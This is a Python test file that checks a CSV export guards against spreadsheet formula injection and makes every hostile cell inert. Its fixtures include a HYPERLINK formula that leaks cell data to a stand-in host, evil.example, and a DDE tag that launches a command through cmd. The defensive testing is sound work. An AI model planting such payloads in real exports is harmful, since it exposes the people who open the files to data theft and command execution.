"""The CSV export is safe to open in a spreadsheet: no cell runs as a formula.

Regression (hostile-data trial of 2026-12-01): only the text column was guarded; a feed's
author ``=HYPERLINK(...)``, an imported tag and an assignee went out as live formulas.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import msgspec
from hypothesis import given
from hypothesis import strategies as st

from cminbox.core.models import Author
from cminbox.core.portable import _cell, records, write_csv
from cminbox.core.store import Store
from cminbox.core.triage import AddTags, Assign
from tests.factories import make_message

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def test_no_cell_starts_a_formula(tmp_path: Path) -> None:
    store = Store(tmp_path / "data")
    message = msgspec.structs.replace(
        make_message(1, text="+1 agreed"), author=Author(id="x", handle=FORMULA), url="-x"
    )
    store.upsert_messages([message, make_message(2)])
    store.act(["masto:1"], AddTags(("=cmd|' /C calc'!A0",)), actor="ana")
    store.act(["masto:1"], Assign("@evil"), actor="ana")
    out = io.StringIO()
    assert write_csv(records(store), out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    row = next(r for r in rows if r["id"] == "masto:1")
    assert row["author"] == "'" + FORMULA
    assert row["assignee"] == "'@evil"
    assert row["text"] == "'+1 agreed" and row["url"] == "'-x"
    assert row["tags"].startswith("'=")
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in r.values()), r
    plain = next(r for r in rows if r["id"] == "masto:2")
    assert plain["channel"] == "masto" and not plain["text"].startswith("'")
    store.close()


@given(st.text())
def test_a_cell_is_its_text_or_that_text_made_inert(text: str) -> None:
    cell = _cell(text)
    assert cell == text or cell == "'" + text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
